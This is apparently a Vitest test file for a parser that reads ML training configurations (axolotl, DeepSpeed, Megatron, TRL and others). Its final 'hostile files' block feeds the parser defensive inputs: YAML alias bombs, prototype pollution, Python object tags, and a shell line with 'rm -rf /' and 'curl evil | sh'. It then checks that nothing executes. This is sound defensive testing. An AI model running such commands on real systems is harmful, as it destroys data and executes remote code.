import { readdirSync, readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { readFile, type Import } from '../src/files/index';

const cases = new URL('../../tests/cases/', import.meta.url);
const presets = readdirSync(new URL('../../presets/models/', import.meta.url))
  .filter((file) => file.endsWith('.json'))
  .map((file) => file.slice(0, -'.json'.length).replace('__', '/'));

async function imported(text: string, name = ''): Promise<Import> {
  const reading = await readFile(text, { presets }, name);
  if (!reading.ok) throw new Error(reading.faults.map(({ line, message }) => `${line}: ${message}`).join('\n'));
  return reading.import;
}

const caseText = (name: string) => readFileSync(new URL(name, cases), 'utf8');
const ofCase = (name: string) => imported(caseText(name), name);
const asked = (made: Import) => made.lines.filter(({ status }) => status === 'asked').map(({ at }) => at[0]);
const line = (made: Import, key: string) => made.lines.find((one) => one.key === key);

describe('configurations of public reports (../tests/cases)', () => {
  test('R01: axolotl, QLoRA under FSDP1 with offload', async () => {
    const made = await ofCase('r01_axolotl_qlora_fsdp.yml');
    expect(made.kind).toBe('axolotl');
    expect(made.spec).toEqual({
      model: 'meta-llama/Llama-2-7b-hf',
      training: {
        method: 'lora',
        adapter: { rank: 32, targets: 'all-linear', dropout: 0.05 },
        base_quantization: { bits: 4, type: 'nf4', double_quant: true, compute_dtype: 'bfloat16' },
        micro_batch: 4,
        sequence: 512,
        accumulation: 4,
        optimizer: { name: 'adamw', implementation: 'fused' },
        max_grad_norm: 1,
        checkpointing: 'full_reentrant',
        attention: 'flash_attention_2',
        weights: 'bfloat16',
        autocast: null,
      },
      parallel: {
        data: {
          cpu_ram_efficient_loading: true,
          kind: 'fsdp1',
          strategy: 'FULL_SHARD',
          use_orig_params: false,
          limit_all_gathers: true,
          param_dtype: 'bfloat16',
          reduce_dtype: 'bfloat16',
        },
        offload: { parameters: 'cpu', optimizer: 'cpu' },
      },
    });
    expect(asked(made)).toEqual(['/parallel/data/degree']);
    expect(line(made, 'wandb_project')).toMatchObject({ status: 'ignored', line: 19 });
    expect(made.faults).toEqual([]);
  });

  test('R03: LLaMA-Factory, full under ZeRO-3 by the name of a file', async () => {
    const made = await ofCase('r03_llamafactory_full_ds3.yaml');
    expect(made.kind).toBe('llamafactory');
    expect(made.spec).toMatchObject({
      model: 'Qwen/Qwen2.5-7B',
      training: {
        method: 'full',
        micro_batch: 1,
        accumulation: 2,
        sequence: 1024,
        weights: 'bfloat16',
        autocast: null,
        loss: 'liger_fused_linear',
        attention: 'sdpa',
      },
      parallel: { data: { kind: 'zero3' } },
    });
    expect(line(made, 'deepspeed')).toMatchObject({ status: 'assumed', at: ['/parallel/data/kind'] });
    expect(line(made, 'precision')?.text).toContain('fp32 master');
    expect(made.lines.some(({ key }) => key === 'lora_target')).toBe(false); // commented out
    expect(line(made, 'ddp_timeout')?.value).toBe('180000000');
    expect(asked(made)).toEqual(['/parallel/data/degree']);
  });

  test('R05: DeepSpeed JSON in which all is auto', async () => {
    const made = await ofCase('r05_deepspeed_z3_offload_auto.json');
    expect(made.kind).toBe('deepspeed');
    expect(made.spec).toEqual({
      parallel: { data: { kind: 'zero3', pin_memory: true, auto_buckets: true }, offload: { optimizer: 'cpu', parameters: 'cpu' } },
    });
    for (const key of ['train_micro_batch_size_per_gpu', 'gradient_clipping', 'bf16.enabled', 'fp16.enabled'])
      expect(line(made, key)?.text).toContain('auto');
    expect(line(made, 'zero_optimization.sub_group_size')?.value).toBe('1000000000');
    expect(line(made, 'zero_optimization.stage3_gather_16bit_weights_on_model_save')?.text).toContain('saved');
    expect(line(made, 'monitor_config')?.status).toBe('ignored');
  });

  for (const name of ['r08_accelerate_ds_stage2_offload.yaml', 'b17_accelerate.yaml']) {
    test(`${name}: offload_param under ZeRO-2 is ignored, and it says so`, async () => {
      const made = await ofCase(name);
      expect(made.kind).toBe('accelerate');
      expect(made.spec).toEqual({
        cluster: { nodes: 1, gpus_per_node: 8 },
        training: { accumulation: 8, weights: 'bfloat16', autocast: null },
        parallel: { data: { kind: 'zero2', degree: 8 }, offload: { optimizer: 'cpu' } },
      });
      expect(line(made, 'deepspeed_config.offload_param_device')).toMatchObject({ status: 'ignored', line: 7 });
      expect(line(made, 'deepspeed_config.offload_param_device')?.text).toContain('ZeRO-3 only');
      expect(asked(made)).toEqual([]);
    });
  }

  test('R09: torchtitan, 70B over tensor ranks, with the number of GPUs in a comment alone', async () => {
    const made = await ofCase('r09_torchtitan_70b.toml');
    expect(made.kind).toBe('torchtitan');
    expect(made.spec).toEqual({
      model: 'meta-llama/Llama-3.1-70B',
      training: {
        method: 'full',
        micro_batch: 8,
        sequence: 8192,
        accumulation: 1,
        max_grad_norm: 1,
        weights: 'float32',
        autocast: null,
        optimizer: { name: 'adamw', implementation: 'fused' },
        checkpointing: 'full',
      },
      parallel: {
        data: { kind: 'fsdp2', param_dtype: 'bfloat16', reduce_dtype: 'float32' },
        tensor: { degree: 8, sequence: true, loss: true },
      },
      software: { stack: 'torchtitan' },
    });
    expect(asked(made)).toEqual(['/parallel/data/degree']);
    expect(made.lines.find(({ status }) => status === 'asked')?.text).toMatch(/each 8 of them .*line 1.*64 GPUs/);
    expect(line(made, 'parallelism.data_parallel_shard_degree')?.text).toContain('÷ 8');
    expect(made.lines.some(({ key }) => key.includes('converters'))).toBe(false);
    expect(line(made, 'training.steps')).toMatchObject({ value: '1000', line: 20 });
    expect(line(made, 'compile.enable')?.text).toBe('not compiled');
  });

  test('R11: Megatron-LM, a script with arrays, a condition and an option in one string', async () => {
    const made = await ofCase('r11_megatron_llama3_8b.sh');
    expect(made.kind).toBe('megatron');
    expect(made.spec).toMatchObject({
      model: {
        config: {
          model_type: 'llama',
          hidden_size: 4096,
          num_hidden_layers: 32,
          num_attention_heads: 32,
          num_key_value_heads: 8,
          head_dim: 128,
          intermediate_size: 14336,
          vocab_size: 128256,
          tie_word_embeddings: false,
        },
      },
      training: {
        method: 'full',
        micro_batch: 1,
        sequence: 8192,
        accumulation: 16,
        weights: 'bfloat16',
        autocast: null,
        checkpointing: 'none',
      },
      parallel: { data: { kind: 'zero1', degree: 8 } },
      cluster: { gpus_per_node: 8, nodes: 1 },
    });
    expect(made.spec.parallel).not.toHaveProperty('pipeline'); // --pipeline-model-parallel-size is commented out
    expect(line(made, '--fp8-format')).toMatchObject({ value: 'hybrid', status: 'ignored', line: 37 });
    expect(line(made, '--fp8-param-gather')?.text).toContain('fp8');
    expect(line(made, '--sequence-parallel')?.text).toContain('one tensor-parallel rank');
    expect(line(made, '--split')?.value).toBe('99,1,0');
    expect(line(made, 'bytes a parameter')?.text).toContain('1 (weights) + 2 (gradients) + 12 ÷ 8');
    expect(line(made, 'vocabulary')?.text).toContain('need no padding');
    const padded = await imported(caseText('r11_megatron_llama3_8b.sh').replace('TP_SIZE=1', 'TP_SIZE=8'));
    expect(padded.spec).toMatchObject({ model: { config: { vocab_size: 129024 } }, parallel: { tensor: { degree: 8, sequence: true } } });
    const bf16 = await imported(
      caseText('r11_megatron_llama3_8b.sh').replace('DTYPE="fp8"', 'DTYPE="bf16"').replace('--grad-reduce-in-bf16', ''),
    );
    expect(line(bf16, '--fp8-format')).toBeUndefined();
    expect(line(bf16, 'bytes a parameter')?.text).toContain('2 (weights) + 4 (gradients) + 12 ÷ 8');
  });

  test('R13: torchtune, one device', async () => {
    const made = await ofCase('r13_torchtune_8b_single.yaml');
    expect(made.kind).toBe('torchtune');
    expect(made.spec).toEqual({
      model: 'meta-llama/Llama-3.1-8B',
      training: {
        method: 'full',
        micro_batch: 2,
        accumulation: 1,
        weights: 'bfloat16',
        autocast: null,
        optimizer: { name: 'paged_adamw_8bit', in_backward: true },
        max_grad_norm: null,
        loss: 'chunked',
        checkpointing: 'full',
      },
    });
    expect(asked(made)).toEqual(expect.arrayContaining(['/training/sequence', '/parallel/data/degree']));
    expect(line(made, 'optimizer_in_bwd')?.text).toContain('no gradients are stored');
    expect(line(made, 'optimizer.lr')?.value).toBe('0.00002');
  });

  test('R15: TRL, packed rows of 64 k tokens', async () => {
    const made = await ofCase('r15_trl_sft_packed_64k.yaml');
    expect(made.kind).toBe('trl');
    expect(made.spec).toMatchObject({
      model: 'HuggingFaceTB/SmolLM3-3B',
      training: {
        method: 'full',
        micro_batch: 1,
        sequence: 65536,
        accumulation: 2,
        loss: 'liger_fused_linear',
        weights: 'bfloat16',
        autocast: 'bfloat16',
        checkpointing: 'full_reentrant',
        max_grad_norm: 0.2,
        attention: 'flash_attention_2',
      },
    });
    expect(line(made, 'eos_token')?.value).toBe('<|im_end|>');
    expect(made.lines.find(({ at }) => at[0] === '/parallel/data/degree')?.text).toContain('8 nodes with GBS 128');
  });

  test('B14: LLaMA-Factory with a path for a model', async () => {
    const made = await ofCase('b14_llamafactory.yaml');
    expect(made.spec).toMatchObject({
      model: 'deepseek-ai/DeepSeek-R1-Distill-Qwen-32B',
      training: { method: 'full', micro_batch: 1, accumulation: 2, sequence: 1024, weights: 'bfloat16', autocast: null },
      parallel: { data: { kind: 'zero3' } },
    });
  });

  test('B27: axolotl lays a packed micro-batch into one row', async () => {
    const made = await ofCase('b27_axolotl.yml');
    expect(made.spec).toMatchObject({ training: { micro_batch: 1, sequence: 16384, optimizer: { name: 'adamw_8bit' }, method: 'full' } });
    expect(line(made, 'packed batch')?.text).toContain('16,384');
  });

  test('B28: axolotl, one row of 16 k tokens without checkpointing', async () => {
    const made = await ofCase('b28_axolotl.yml');
    expect(made.spec).toMatchObject({
      model: 'HuggingFaceTB/SmolLM2-1.7B',
      training: {
        micro_batch: 1,
        sequence: 16384,
        checkpointing: 'none',
        optimizer: { name: 'adamw_8bit' },
        attention: 'flash_attention_2',
        method: 'full',
      },
    });
    expect(made.spec).not.toHaveProperty('parallel');
  });

  test('every setting of every case is in the list, with a reason', async () => {
    for (const name of readdirSync(cases).filter((file) => /^(r\d|b14_l|b17_a|b27|b28)/.test(file))) {
      const made = await ofCase(name);
      for (const one of made.lines) expect(one.text, `${name}: ${one.key}`).toMatch(/\S/);
      const unknown = made.lines.filter(({ text }) => text.includes('it may matter')).map(({ key }) => key);
      expect(unknown, name).toEqual([]);
    }
  });
});

describe('preference training', () => {
  test('TRL’s YAML with a beta is DPO: pairs are two rows each', async () => {
    const made = await imported(
      'model_name_or_path: Qwen/Qwen2.5-7B\nbeta: 0.01\nmax_length: 1024\nper_device_train_batch_size: 4\ntorch_dtype: bfloat16\n',
    );
    expect(made.spec).toMatchObject({ training: { objective: 'dpo', micro_batch: 8, sequence: 1024 } });
  });

  test('trl grpo …: what is not played is said', async () => {
    const made = await imported(
      'trl grpo --model_name_or_path Qwen/Qwen2.5-7B --max_completion_length 512 --num_generations 8 --bf16 True',
    );
    expect(asked(made)).toContain('/training/objective');
  });
});

describe('Python source and command lines', () => {
  test('TrainingArguments, a quantised model and LoRA', async () => {
    const made = await imported(`
from transformers import AutoModelForCausalLM, TrainingArguments, BitsAndBytesConfig
BATCH = 2 * 4
bnb = BitsAndBytesConfig(load_in_4bit=True, bnb_4bit_use_double_quant=True, bnb_4bit_quant_type="nf4", bnb_4bit_compute_dtype=torch.bfloat16)
model = AutoModelForCausalLM.from_pretrained("mistralai/Mistral-7B-v0.1", quantization_config=bnb, attn_implementation="flash_attention_2")
peft = LoraConfig(r=64, lora_alpha=16, target_modules=["q_proj", "k_proj"], lora_dropout=0.1, task_type="CAUSAL_LM")
args = TrainingArguments(
    output_dir="out",  # a comment
    per_device_train_batch_size=BATCH,
    gradient_accumulation_steps=1 << 2 if False else 4,
    bf16=True, optim="paged_adamw_8bit", gradient_checkpointing=True,
    gradient_checkpointing_kwargs={"use_reentrant": False}, max_grad_norm=0.3)
trainer = SFTTrainer(model, args=args, max_seq_length=1024, packing=False, peft_config=peft)
`);
    expect(made.kind).toBe('trl');
    expect(made.spec).toMatchObject({
      model: 'mistralai/Mistral-7B-v0.1',
      training: {
        method: 'lora',
        adapter: { rank: 64, targets: ['q_proj', 'k_proj'], dropout: 0.1 },
        base_quantization: { bits: 4, type: 'nf4', double_quant: true, compute_dtype: 'bfloat16' },
        micro_batch: 8,
        sequence: 1024,
        optimizer: { name: 'paged_adamw_8bit' },
        checkpointing: 'full',
        max_grad_norm: 0.3,
        attention: 'flash_attention_2',
      },
    });
    expect(made.faults).toMatchObject([{ key: 'gradient_accumulation_steps', line: 10 }]); // computed: not known here
  });

  test('a piece of arguments', async () => {
    const made = await imported('per_device_train_batch_size=4,\ngradient_accumulation_steps=8,\nbf16=True,\noptim="adamw_torch",\n');
    expect(made.kind).toBe('trainer');
    expect(made.spec).toMatchObject({
      training: { micro_batch: 4, accumulation: 8, optimizer: { name: 'adamw', implementation: 'foreach' } },
    });
  });

  test('accelerate launch … python script with TRL’s arguments', async () => {
    const made = await imported(
      'accelerate launch --num_processes 4 sft.py \\\n  --model_name_or_path Qwen/Qwen2.5-0.5B \\\n  --per_device_train_batch_size 2 --max_length=2048 --use_peft --lora_r 32 --gradient_checkpointing False',
    );
    expect(made.kind).toBe('trl');
    expect(made.spec).toMatchObject({
      model: 'Qwen/Qwen2.5-0.5B',
      training: { method: 'lora', adapter: { rank: 32 }, micro_batch: 2, sequence: 2048, checkpointing: 'none' },
      parallel: { data: { degree: 4 } },
    });
  });

  test('torchtitan’s overrides', async () => {
    const made = await imported(
      'torchrun --nproc_per_node=8 train.py --model.name llama3 --model.flavor 8B --training.local_batch_size 2 --training.seq_len 4096 --parallelism.tensor_parallel_degree 2',
    );
    expect(made.spec).toMatchObject({
      model: 'meta-llama/Llama-3.1-8B',
      training: { micro_batch: 2, sequence: 4096 },
      parallel: { data: { kind: 'fsdp2', degree: 4 }, tensor: { degree: 2 } },
    });
  });
});

describe('what is wrong is said, with its place and value', () => {
  test.each([
    [
      'a number that is none',
      'base_model: a\nsequence_len: long\nmicro_batch_size: -2\n',
      'x.yml',
      [
        { line: 2, key: 'sequence_len', value: 'long' },
        { line: 3, key: 'micro_batch_size', value: '-2' },
      ],
    ],
    [
      'a flag that is none',
      'base_model: a\nmicro_batch_size: 1\nload_in_4bit: 7\n',
      'x.yml',
      [{ line: 3, key: 'load_in_4bit', value: '7' }],
    ],
    [
      'a table in place of a word',
      'finetuning_type: full\ncutoff_len: {a: 1}\n',
      'x.yaml',
      [{ line: 2, key: 'cutoff_len', value: '{a: 1}' }],
    ],
    ['a stage that is none', '{"zero_optimization": {\n"stage": 9}}', 'x.json', [{ line: 2, key: 'zero_optimization.stage', value: '9' }]],
    ['a key given twice', 'finetuning_type: full\ncutoff_len: 1\ncutoff_len: 2\n', 'x.yaml', [{ line: 3, key: 'cutoff_len' }]],
  ])('%s', async (_, text, name, faults) => {
    const made = await imported(text, name);
    expect(made.faults).toMatchObject(faults);
  });

  test.each([
    ['nothing', '  \n', ''],
    ['YAML that breaks off', 'base_model: "abc\nmicro_batch_size: 1', 'x.yml'],
    ['JSON that breaks off', '{"zero_optimization": {"stage": 3', 'x.json'],
    ['TOML that breaks off', '[training\nseq_len = 1', 'x.toml'],
    ['prose', 'Dear all, please find the configuration below.', ''],
    ['a picture', '\u0089PNG\0\0', 'x.png'],
  ])('%s is refused', async (_, text, name) => {
    const reading = await readFile(text, { presets }, name);
    expect(reading.ok).toBe(false);
    if (!reading.ok) expect(reading.faults[0]?.message).toMatch(/\S/);
  });
});

describe('hostile files', () => {
  const bomb = `a: &a [x,x,x,x,x,x,x,x,x]\n${'bcdefghi'
    .split('')
    .map((key, index) => `${key}: &${key} [${Array(9).fill(`*${'abcdefgh'[index]}`).join(',')}]`)
    .join('\n')}\nbase_model: *i\nmicro_batch_size: 1\n`;
  const wide = `base_model: x\nmicro_batch_size: 1\n${Array.from({ length: 30_000 }, (_, index) => `k${index}: 1`).join('\n')}`;
  test.each<[string, string, string]>([
    ['aliases of aliases', bomb, 'x.yml'],
    ['an alias of itself', 'a: &a [*a]\nbase_model: x\nmicro_batch_size: 1', 'x.yml'],
    ['merges of merges', `a: &a {x: 1}\nb: &b {<<: *a, y: 1}\nc: {<<: *b}\nbase_model: x\nmicro_batch_size: 2`, 'x.yml'],
    ['brackets', `base_model: ${'['.repeat(100_000)}`, 'x.yml'],
    ['closed brackets', `a: ${'['.repeat(5000)}${']'.repeat(5000)}\nbase_model: x\nmicro_batch_size: 1`, 'x.yml'],
    ['indentation', Array.from({ length: 700 }, (_, depth) => `${' '.repeat(depth)}a:`).join('\n'), 'x.yml'],
    ['dashes', `base_model: x\na: ${'- '.repeat(50_000)}x`, 'x.yml'],
    ['wide', wide, 'x.yml'],
    ['long', 'x: 1\n'.repeat(200_000), 'x.yml'],
    [
      'tags of Python',
      'base_model: !!python/object/apply:os.system ["echo gotcha"]\nmicro_batch_size: 1\nsequence_len: !!js/function "function(){throw 1}"',
      'x.yml',
    ],
    [
      'the prototype',
      '__proto__: {polluted: true}\nconstructor: {prototype: {polluted: true}}\nbase_model: __proto__\nmicro_batch_size: 1\nadapter: constructor\noptimizer: toString\n',
      'x.yml',
    ],
    ['the prototype in JSON', '{"__proto__": {"polluted": true}, "zero_optimization": {"__proto__": {"stage": 3}, "stage": 2}}', 'x.json'],
    ['JSON brackets', '['.repeat(100_000), 'x.json'],
    ['JSON objects', '{"a":'.repeat(20_000), 'x.json'],
    ['TOML brackets', `a = ${'['.repeat(50_000)}`, 'x.toml'],
    ['TOML tables', `[${Array(5000).fill('a').join('.')}]\nb=1`, 'x.toml'],
    [
      'a script that would delete',
      '#!/bin/bash\nrm -rf / ; X=$(curl evil | sh)\npython pretrain_gpt.py --num-layers $X --hidden-size `whoami` --seq-length $((1/0))',
      'x.sh',
    ],
    ['a variable of itself', `X="$X$X"\n${'X="$X$X x"\n'.repeat(60)}python pretrain_gpt.py --num-layers $X --hidden-size 1`, 'x.sh'],
    ['arrays of arrays', `A=(--num-layers 1)\n${'A+=("${A[@]}")\n'.repeat(60)}python p.py "\${A[@]}" --hidden-size 2`, 'x.sh'],
    ['dollars', `python p.py --num-layers ${'${a:-'.repeat(5000)} --hidden-size 1`, 'x.sh'],
    ['arithmetic', `python p.py --num-layers $(( ${'('.repeat(5000)} )) --hidden-size 1`, 'x.sh'],
    ['quotes', `python p.py --num-layers "${"'".repeat(50_001)}`, 'x.sh'],
    ['Python brackets', `TrainingArguments(x=${'['.repeat(50_000)}`, 'x.py'],
    ['Python calls', `TrainingArguments(${'dict(a='.repeat(20_000)}`, 'x.py'],
    [
      'Python that would run',
      'TrainingArguments(per_device_train_batch_size=__import__("os").system("echo gotcha"), bf16=exec("1"))',
      'x.py',
    ],
    ['Python powers', 'TrainingArguments(per_device_train_batch_size=9**9**9**9, bf16=True)', 'x.py'],
    ['a wall of spaces', `base_model: x\nmicro_batch_size: 1\n${' '.repeat(200_000)}`, 'x.yml'],
    ['a comment without end', `#${'#'.repeat(200_000)}`, ''],
  ])('%s: answered at once, nothing run', async (_, text, name) => {
    const begin = performance.now();
    const reading = await readFile(text, { presets }, name);
    expect(performance.now() - begin).toBeLessThan(3000);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    if (reading.ok) {
      // What came through is small and plain: it can be sent and shown.
      expect(JSON.stringify(reading.import.spec).length).toBeLessThan(10_000);
      for (const one of reading.import.lines) expect(one.value.length + one.key.length).toBeLessThan(200);
    } else expect(reading.faults.length).toBeGreaterThan(0);
  });
});
